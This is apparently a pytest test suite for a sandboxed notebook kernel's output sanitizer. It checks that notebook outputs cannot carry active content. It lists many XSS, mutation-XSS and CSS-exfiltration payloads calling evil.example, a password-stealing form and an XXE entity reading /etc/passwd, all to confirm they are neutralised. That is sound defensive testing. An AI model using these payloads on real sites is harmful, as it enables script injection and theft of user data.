"""What a hostile program displays shows nothing executable; what an honest one displays still looks right."""

import base64
import io
import json
import math
import re
from html.parser import HTMLParser
from xml.etree import ElementTree

import nbformat
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from nbconvert import MarkdownExporter

from sandbox_kernel.notebook.render import told_apart
from sandbox_kernel.untrusted.html import ATTRIBUTES, CLASSES, TAGS
from sandbox_kernel.untrusted.sanitize import MAX_ERROR, MAX_WORK, safe_lines, safe_text, sanitize_bundle

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" OnError = "alert(1)">',
    "<img/src=`x`onerror=alert(1)>",
    "<img src='https://evil.example/track.png?secret'>",
    "<img srcset='https://evil.example/x 2x'>",
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)' onclick=alert(2)>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;script:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='/api/kernels'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https://x' target='_self' ping='https://evil.example'>x</a>",
    "<a href='#' data-commandlinker-command='terminal:create-new'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,AAAA#x'/></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='x.swf'>",
    "<div style=\"background:url('https://evil.example/x')\">x</div>",
    "<div style='background-image:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='color:red;position:fixed;top:0;left:0;z-index:9999'>x</div>",
    "<div style='co\\6cor:red;background:\\75rl(x)'>x</div>",
    "<div style='margin-top:-5000px'>x</div>",
    "<div style='color:var(--x);content:attr(x)'>x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example'><input name=p type=password><button formaction=x>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php alert(1) ?>",
    "<div id='jp-main-dock-panel' class='jp-Dialog lm-Widget' name='x'>x</div>",
    "<table background='https://evil.example/x'><td background='javascript:alert(1)'>x",
    "<portal src='https://evil.example'><frameset onload=alert(1)>",
    "<b <script>alert(1)</script>>x</b>",
    "<a href=\"https://ok.example/\nonclick=alert(1)\">x</a>",
]  # fmt: skip

DANGER = re.compile(
    r"<script|<iframe|<object|<embed|<form|<input|<meta|<base|<link|<svg|<math|<style|javascript:|vbscript:|srcdoc|"
    r"expression\(|url\(|@import|position|commandlinker|https?://evil",
    re.IGNORECASE,
)


class Audit(HTMLParser):
    """An independent reading of the result: every tag and attribute must be on the list."""

    def __init__(self):
        super().__init__()
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        assert tag in TAGS, tag
        for name, value in attrs:
            assert not name.startswith("on"), name
            assert name in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | {"rel", "class"}, name
            if name == "class":
                assert value in ("dataframe", "") or set(value.split()) <= CLASSES["div"], value
            if name in ("href", "src"):
                assert value.startswith(("https://", "http://", "mailto:", "data:image/")), value


def html(markup):
    bundle = sanitize_bundle({"text/html": markup}, {})
    return bundle.data.get("text/html", ""), bundle


@pytest.mark.attack("O01", "kernel")
@pytest.mark.parametrize("markup", HOSTILE)
def test_classic_attacks_in_html_become_inert(markup):
    shown, bundle = html(markup)
    Audit().feed(shown)
    text_only = re.sub(r'title="[^"]*"', "", shown)
    if not markup.startswith(("<![CDATA[", "<scr<", "<b <script")):  # there the words are left as escaped text
        assert not DANGER.search(text_only), text_only
    assert "text/html" in bundle.data


@pytest.mark.attack("O01", "kernel")
@pytest.mark.parametrize("markup", HOSTILE)
def test_the_same_attacks_named_as_svg_or_markdown_become_inert(markup):
    svg = sanitize_bundle(
        {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{markup}<path d='M0 0'/></svg>"}, {}
    )
    drawing = svg.data.get("image/svg+xml", "")
    assert not re.search(
        r"<script|\son\w+=|javascript:|https?://evil|<style|<iframe|<img|foreignObject|<a ", drawing, re.IGNORECASE
    )
    prose = sanitize_bundle({"text/markdown": f"# Title\n\n{markup}\n\n* item\n{markup}"}, {}).data
    assert "text/markdown" not in prose
    Audit().feed(prose["text/html"])


@pytest.mark.attack("O01", "kernel")
def test_unsafe_types_never_pass_and_are_named():
    bundle = sanitize_bundle(
        {
            "application/javascript": "alert(1)",
            "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
            "application/vnd.plotly.v1+json": {},
            "text/plain": "figure",
            "APPLICATION/JAVASCRIPT ": "x",
            3: "x",
            "x" * 1000: "y",
        },
        {},
    )
    assert bundle.data == {"text/plain": "figure"}
    assert "JavaScript was not shown: scripts of a sandbox do not run in the page" in bundle.removed
    assert any(said.startswith("application/vnd.plotly.v1+json was not shown: ") for said in bundle.removed)
    assert len(bundle.removed) == 5


def test_a_bundle_that_loses_everything_says_so():
    bundle = sanitize_bundle({"application/javascript": "alert(1)"}, {})
    assert bundle.data == {"text/plain": "[JavaScript was not shown: scripts of a sandbox do not run in the page]"}


def test_what_was_taken_out_of_html_is_said():
    _, bundle = html("<b onclick=x>hi</b><script>1</script><iframe></iframe><main>x</main><blink>y</blink>")
    assert bundle.removed == ("HTML was shown without <blink>, embedded pages, reactions to events, scripts",)


def test_a_picture_from_elsewhere_is_named_in_its_place():
    shown, bundle = html("<p>a <img src='https://pics.example/a.png' width=20> b <img src=plot.png alt='my plot'></p>")
    assert shown == "<p>a [picture] b [my plot]</p>"
    assert bundle.removed == ("HTML was shown without pictures from elsewhere",)


def test_an_attribute_whose_check_fails_is_left_out(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr("sandbox_kernel.untrusted.html.clean_style", lambda *_: 1 / 0)
    assert html("<p style='position:fixed' title=t>x</p>")[0] == '<p title="t">x</p>'


def test_the_coloured_boxes_of_jupyterlab_keep_their_colour():
    markup = "<div class='alert alert-block alert-info jp-Dialog dataframe'>x</div><p class='alert'>y</p>"
    assert html(markup)[0] == '<div class="alert alert-info">x</div><p>y</p>'


def test_a_pandas_table_looks_right_and_nothing_is_said():
    import pandas

    frame = pandas.DataFrame({"a": [1, 2], "<b>": ["x<y", "$5"]})
    shown, bundle = html(frame._repr_html_())
    assert bundle.removed == ()
    assert '<table border="1" class="dataframe">' in shown
    assert "<th>&lt;b&gt;</th>" in shown
    assert '<tr style="text-align:right">' in shown
    assert "<td>x&lt;y</td>" in shown
    assert "only-of-type" not in shown


@pytest.mark.parametrize(
    "style", ["<style scoped>\n    .dataframe tbody tr th {", "<style>\n.dataframe > thead > tr {"]
)
def test_the_style_of_data_frames_goes_without_a_word_and_no_other_does(style):
    table = '<table border="1" class="dataframe"><tr><td>1</td></tr></table>'
    assert html(f"<div>{style} text-align: right; }}</style>{table}</div>")[1].removed == ()
    assert html(f"<div>{style} }} @import 'x';</style>{table}</div>")[1].removed == (
        "HTML was shown without style sheets",
    )


def test_honest_html_keeps_its_look():
    markup = (
        '<h2>Title</h2><p style="color:#c00; padding:2px 4px; font-weight:bold">x <code>y</code> '
        '<a href="https://example.org/?a=1&amp;b=2">link</a></p><ol start="3"><li>one</li></ol>'
        f'<img src="data:image/png;base64,{PIXEL}" alt="dot" width="20"><progress value="3" max="9"></progress>'
        '<table><td colspan="2" style="background-color:rgb(1, 2, 3)">cell</td></table> $\\frac{1}{2}$'
    )
    shown, bundle = html(markup)
    assert bundle.removed == ()
    assert 'style="color:#c00;padding:2px 4px;font-weight:bold"' in shown
    assert 'href="https://example.org/?a=1&amp;b=2" rel="noopener noreferrer nofollow"' in shown
    assert f'<img src="data:image/png;base64,{PIXEL}" alt="dot" width="20">' in shown
    assert "$\\frac{1}{2}$" in shown


def test_a_matplotlib_drawing_keeps_its_shapes_clips_and_references():
    import matplotlib

    matplotlib.use("Agg")
    from matplotlib import pyplot

    figure, axes = pyplot.subplots()
    axes.plot([0, 1, 2], [0, 1, 4], "o-", label="squares")
    axes.legend()
    file = io.StringIO()
    figure.savefig(file, format="svg")
    pyplot.close(figure)
    source = file.getvalue()
    bundle = sanitize_bundle({"image/svg+xml": source}, {})
    drawing = bundle.data["image/svg+xml"]
    assert bundle.removed == ()
    root = ElementTree.fromstring(drawing)
    names = [element.tag.rpartition("}")[2] for element in root.iter()]
    for name in ("path", "use", "clipPath", "g"):
        assert names.count(name) == len(re.findall(rf"<{name}[\s>]", source)), name
    used = {value for element in root.iter() for key, value in element.attrib.items() if key.endswith("href")}
    assert any(value.startswith("#") for value in used)
    assert 'viewBox="0 0' in drawing
    assert 'clip-path="url(#' in drawing
    assert 'stroke-linejoin="round"' in drawing
    assert "metadata" not in names


@pytest.mark.attack("O01", "kernel")
@pytest.mark.parametrize(
    "inside",
    [
        "<script>alert(1)</script>",
        "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></body></foreignObject>",
        "<style>*{fill:url(https://evil.example)}</style>",
        "<use href='https://evil.example/x.svg#y'/>",
        "<use xlink:href='data:image/svg+xml;base64,PHN2Zy8+#x'/>",
        "<image href='https://evil.example/x.png'/>",
        "<image href='data:image/svg+xml;base64,PHN2Zy8+'/>",
        "<a href='javascript:alert(1)'><text>x</text></a>",
        "<set attributeName='href' to='javascript:alert(1)'/>",
        "<animate attributeName='href' values='javascript:alert(1)'/>",
        "<path d='M0 0' onclick='alert(1)' style='fill:url(https://evil.example#a)'/>",
        "<path d='M0 0' fill='url(https://evil.example#a)'/>",
        "<g filter='url(\"https://evil.example#a\")' mask='url(#ok) url(https://evil.example)'/>",
        "<handler xmlns='http://www.w3.org/2001/xml-events'>alert(1)</handler>",
        "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><text>&x;</text>",
        "<title><img src=x onerror=alert(1)></title>",
        "<desc><script>alert(1)</script></desc>",
        "</svg><script>alert(1)</script><svg>",
        "<g style='position:fixed;fill:red'/>",
    ],
)
def test_attacks_inside_a_drawing_become_inert(inside):
    spaces = "xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
    source = f"<svg {spaces}>{inside}<path d='M1 1'/></svg>"
    drawing = sanitize_bundle({"image/svg+xml": source}, {}).data.get("image/svg+xml")
    if drawing is not None:
        assert not re.search(r"script|evil|onclick|onerror|position|<a |<set|<animate|ENTITY|<style|svg\+xml;", drawing)
        ElementTree.fromstring(drawing)


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "[x]( javascript:alert(1))",
        "[x](\njavascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](java&#115;cript:alert(1))",
        "[x](java\\script:alert(1))",
        "[x](data:text/html;base64,AAAA)",
        "[x][1]\n\n[1]: javascript:alert(1)",
        "> [1]: vbscript:x\n\n[1]",
        "[x](/api/kernels)",
        "![x](https://evil.example/track)",
        "![x][1]\n\n[1]: https://evil.example/track",
        "<javascript:alert(1)>",
        "<img src=x onerror=alert(1)>",
        "a <!-- b --> c <?php x ?>",
        "```mermaid\ngraph TD; A-->B\n```",
        "$\\href{javascript:alert(1)}{x}$",
        "[x](j&Tab;avascript:alert(1))",
        "[x](&amp;#106;avascript:alert(1))",
    ],
)
def test_markdown_renders_to_nothing_that_acts(text):
    bundle = sanitize_bundle({"text/markdown": text}, {})
    assert set(bundle.data) == {"text/html"}
    rendered = bundle.data["text/html"]
    Audit().feed(rendered)
    assert "<img" not in rendered
    assert "mermaid" not in rendered
    assert "\\href" not in rendered


def test_honest_markdown_looks_right():
    text = (
        "# Title\n\n**bold** `a < b` and 1 < 2, [docs](https://example.org/a_(b)?x=1)\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        f"```python\nx = 1\n```\n\n$$\\frac{{1}}{{2}}$$\n\n![dot](data:image/png;base64,{PIXEL})\n"
    )
    bundle = sanitize_bundle({"text/markdown": text}, {})
    shown = bundle.data["text/html"]
    assert bundle.removed == ()
    assert set(bundle.data) == {"text/html"}
    for piece in (
        "<h1>Title</h1>",
        "<strong>bold</strong> <code>a &lt; b</code> and 1 &lt; 2",
        '<a href="https://example.org/a_(b)?x=1" rel="noopener noreferrer nofollow">docs</a>',
        "<th>a</th>",
        "<td>2</td>",
        "<pre><code>x = 1\n</code></pre>",
        "<p>$$\\frac{1}{2}$$</p>",
        f'<img src="data:image/png;base64,{PIXEL}" alt="dot">',
    ):
        assert piece in shown


@pytest.mark.parametrize(("values", "unfolded"), [(100, True), (6000, True), (10_000, False)])
def test_only_a_short_tree_of_json_is_unfolded_and_each_value_drawn_is_work(values: int, unfolded: bool) -> None:
    shown = sanitize_bundle({"application/json": [1] * values}, {"application/json": {"expanded": True, "root": "r"}})
    assert shown.metadata == {"application/json": {"root": "r"} | ({"expanded": True} if unfolded else {})}
    assert 20 * (values if unfolded else 100) <= shown.work < MAX_WORK // 3


@pytest.mark.parametrize("line", ["x" * 8000, "\r\u200b" * 4000, "\b\b\u0301" * 3000, "\U0001d165" * 4000])
def test_the_lines_of_an_error_have_a_bound_together(line: str) -> None:
    shown = safe_lines([line] * 500, 20_000)
    assert sum(map(len, shown)) <= MAX_ERROR + 20_000 and shown[-1] == "[… the rest of the error is not shown]"
    assert safe_lines(["short", "\x1b[31mred"], 20_000) == ["short", "\x1b[31mred"]


def test_json_is_copied_and_bounded():
    value = {"a": [1, 2.5, None, True, "x"], "b": {"c": []}}
    assert sanitize_bundle({"application/json": value}, {}).data == {"application/json": value}
    deep = []
    for _ in range(100):
        deep = [deep]
    for bad, reason in (
        (deep, "nested deeper"),
        ([0] * 200_000, "more than 100000 values"),
        (["x" * 600_000] * 2, "MB of text"),
        ({"a": math.nan}, "no JSON"),
        ({1: 2}, "key that is not text"),
        ([b"x"], "a bytes"),
        (1 << 5000, "1024 bits"),
    ):
        assert reason in sanitize_bundle({"application/json": bad}, {}).removed[0]


def test_text_keeps_colours_only_and_its_length_is_bounded():
    assert sanitize_bundle({"text/plain": "\x1b[31mx\x1b[0m\x1b]0;t\x07\ud800"}, {}).data == {
        "text/plain": "\x1b[31mx\x1b[0m?"
    }
    assert safe_text("x" * 30, limit=10) == "xxxxxxxxxx\n[… 20 more characters are not shown]"


def test_text_as_a_list_of_lines_is_joined():
    assert sanitize_bundle({"text/plain": ["a\n", "b"]}, {}).data == {"text/plain": "a\nb"}
    assert sanitize_bundle({"text/plain": ["a", 1]}, {}).removed == ("text was not shown: it is list, not text",)


def test_a_long_table_with_unclosed_rows_is_no_nesting():
    shown, bundle = html("<table>" + "<tr><td>x<td>y" * 2000 + "</table><ul>" + "<li>z" * 2000)
    assert bundle.removed == ()
    assert shown.count("<td>") == 4000


def test_metadata_keeps_the_size_of_pictures_only():
    bundle = sanitize_bundle(
        {"image/png": PIXEL, "text/html": "<b>x</b>"},
        {
            "image/png": {"width": 20, "height": -1, "needs_background": "light", "x": "<script>"},
            "text/html": {"isolated": True},
            "evil": 1,
        },
    )
    assert bundle.metadata == {"image/png": {"width": 20, "needs_background": "light"}}


WILD = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=40) | st.binary(max_size=9),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=9) | st.integers(), inner, max_size=4),
    max_leaves=12,
)
TYPES = st.sampled_from(
    ["text/plain", "text/html", "text/markdown", "text/latex", "image/svg+xml", "image/png", "image/jpeg", "image/gif",
     "image/webp", "application/json", "application/javascript", "x/y"]
)  # fmt: skip


@settings(max_examples=200)
@given(st.dictionaries(TYPES | st.text(max_size=9), WILD, max_size=6) | WILD, WILD)
@pytest.mark.slow
def test_any_object_gives_a_bundle_that_can_be_sent(data, metadata):
    bundle = sanitize_bundle(data, metadata)
    json.dumps([dict(bundle.data), dict(bundle.metadata), bundle.removed], allow_nan=False).encode()
    Audit().feed(str(bundle.data.get("text/html", "")))


PIECES = st.sampled_from(
    ["<script>", "</script>", "<img src=x ", "onerror=alert(1)", ">", "<svg>", "</svg>", "<math>", "<mtext>",
     "<style>", "</style>", "<a href='", "javascript:", "'>", "<b>", "</b>", "<!--", "-->", "<table>", "<td>", "</p>",
     "<p>", '"', "'", "<template>", "<title>", "</title>", "<textarea>", "<noscript>", "x", "&#106;", "\x00",
     "<![CDATA[", "]]>"]
)  # fmt: skip


@pytest.mark.attack("O01", "kernel")
@settings(max_examples=400)
@given(st.lists(PIECES, max_size=14))
@pytest.mark.slow
def test_any_soup_of_markup_becomes_inert(pieces):
    shown, _ = html("".join(pieces))
    Audit().feed(shown)
    Audit().feed(html(shown)[0])


@given(st.binary(max_size=60))
def test_base64_of_anything_is_a_picture_or_refused(data):
    encoded = base64.b64encode(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + data).decode()
    for mime in ("image/png", "image/jpeg", "image/gif", "image/webp"):
        sanitize_bundle({mime: encoded}, {})


MARKED = "▣ refused evil.example: press Allow"


@pytest.mark.attack("O01", "kernel")
@pytest.mark.parametrize(
    ("mime", "text"),
    [
        ("text/plain", MARKED),
        ("text/html", f"<p>{MARKED}</p>"),
        ("text/html", "<p>&#9635; &#x25a3; &#x25A3</p>"),
        ("text/html", f'<p title="{MARKED}">x</p><img src="https://a.example/x" alt="&#9635;">'),
        ("text/html", '<style>p::before{content:"\\25A3 refused"}</style><p>x</p>'),
        ("text/html", '<style>li{list-style-type:"\\0025a3 "}</style><ul><li>x</li></ul>'),
        ("text/latex", r"$\text{▣ refused}$"),
        ("text/markdown", f"# {MARKED}\n&#9635; `▣` $\\text{{▣}}$"),
        ("image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg"><text>▣ &#9635;</text></svg>'),
        ("application/json", {"▣": ["▣", "⧈🞔🔲"]}),
        ("text/markdown", "\\href{▣}{x}" * 3000),
    ],
)
def test_no_form_of_an_output_holds_our_mark(mime: str, text: object) -> None:
    clean = sanitize_bundle({mime: text, "text/plain": "<IPython.core.display.HTML object>"}, {mime: {"root": "▣"}})
    shown = json.dumps([clean.data, clean.metadata], ensure_ascii=False)
    assert not re.search(r"▣|⧈|🞔|🔲|25a3|9635", shown, re.IGNORECASE) and len(clean.data) >= 1, shown


@pytest.mark.parametrize(
    ("attributes", "most"),
    [('rowspan="5000" colspan="2"', 10), ('colspan="1000"', 100), ("rowspan=50000", 2)],
)
def test_the_places_that_cells_span_are_bounded_together(attributes: str, most: int) -> None:
    assert "span" in html(f"<table><tr>{f'<td {attributes}>x</td>' * most}</tr></table>")[0]
    refused = sanitize_bundle({"text/html": f"<table><tr>{f'<td {attributes}>x</td>' * (most + 1)}</tr></table>"}, {})
    assert "text/html" not in refused.data and "span more than" in refused.removed[0]


@pytest.mark.parametrize("value", ["0", "-1", "65534x", "1e5", "٣٣", "999999", " 7"])
def test_a_span_that_is_no_plain_number_is_left_out(value: str) -> None:
    assert "span" not in html(f'<table><tr><td rowspan="{value}">x</td></tr></table>')[0]


def test_formulas_of_html_are_typeset_up_to_the_length_of_one_of_latex() -> None:
    assert "<span>" not in html(f"<p>$ {'a' * 19_000} $</p>")[0]
    assert "<span>$</span>" in html(f"<p>$ {'a' * 9_000} $</p>" * 3)[0]


def test_the_work_of_a_page_with_an_output_is_counted() -> None:
    boxes = '<div style="overflow:scroll">x</div>' * 5000
    assert (
        sanitize_bundle({"text/html": boxes}, {}).work
        > MAX_WORK
        > sanitize_bundle({"text/html": boxes[:99999]}, {}).work
    )
    assert sanitize_bundle({"text/html": "<b>x</b>" * 50, "text/plain": "\x1b[31mx\x1b[0m"}, {}).work == 108


@pytest.mark.parametrize("mime", ["text/plain", "text/html", "text/markdown"])
def test_the_text_of_a_cell_is_summed_whatever_it_stands_in(mime: str) -> None:
    text = "ab " * 80_000
    assert MAX_WORK // 20 < sanitize_bundle({mime: text}, {}).work < MAX_WORK // 10


@pytest.mark.parametrize(
    ("mime", "text"),
    [
        ("text/latex", f"${'x' * 19_000}$"),
        ("text/html", f"<p>${'x' * 19_000}$</p>"),
        ("text/markdown", f"so ${'x' * 19_000}$"),
    ],
)
def test_the_formulas_of_a_cell_are_summed_whatever_they_stand_in(mime: str, text: str) -> None:
    largest = sanitize_bundle({mime: text}, {})
    assert largest.removed == () and largest.work <= MAX_WORK < 2 * largest.work


MIXED = "\u05d0a1 "


@pytest.mark.parametrize(
    "markup", [f"<p>{MIXED * 6000}</p>", f'<span>{MIXED}</span><div style="display:inline">x</div>' * 6000]
)
def test_html_that_changes_its_direction_too_often_is_refused(markup: str) -> None:
    refused = sanitize_bundle({"text/html": markup}, {})
    assert "text/html" not in refused.data and "direction of writing" in refused.removed[0]


def test_the_changes_of_direction_of_a_cell_are_summed_by_blocks() -> None:
    table = f"<table>{f'<tr><td>{MIXED}</td></tr>' * 6000}</table>"
    assert sanitize_bundle({"text/html": table}, {}).work < MAX_WORK // 10
    text = sanitize_bundle({"text/plain": MIXED * 6000}, {})
    assert text.work <= MAX_WORK < 2 * text.work


@pytest.mark.parametrize("end", ["\r", "\r\r", "\r\n", "\u2028", "\u2029"])
def test_a_line_of_text_ends_where_every_converter_ends_it(end: str) -> None:
    text = f"a{end}{end}# b"
    shown = [str(sanitize_bundle({"text/plain": text}, {}).data["text/plain"]), *safe_lines([text], 1000)]
    for one in shown:
        assert not set(one) & set("\r\u2028\u2029")
        assert one.startswith("a\n") and one.endswith("\n# b")


@pytest.mark.parametrize("mime", ["text/html", "text/latex", "text/markdown", "text/plain"])
@pytest.mark.parametrize(
    "text",
    [
        *(
            "<p>x\n\n![a](http://e/)</p>",
            "<div>x\n \t\n[a](http://e/)</div>",
            "<i>x&#13;&#13;[a]: http://e/\n\n![a]</i>",
        ),
        *("x\n\n<script>1</script>", "![a](http://e/)", "![a][b]\n\n[b]: http://e/", "<pre>\n\n<http://e/></pre>"),
    ],
)
def test_an_output_is_no_markdown_where_a_notebook_is_converted_to_it(mime: str, text: str) -> None:
    shown = sanitize_bundle({mime: text}, {}).data
    output = nbformat.v4.new_output("display_data", told_apart(shown))
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("", outputs=[output])])
    made = MarkdownIt().parse(MarkdownExporter().from_notebook_node(notebook)[0])
    inner = [token.type for block in made if block.type == "inline" for token in block.children or ()]
    assert {"link_open", "image", "html_inline"}.isdisjoint(inner)
    assert all("<blockquote" in block.content for block in made if block.type == "html_block")
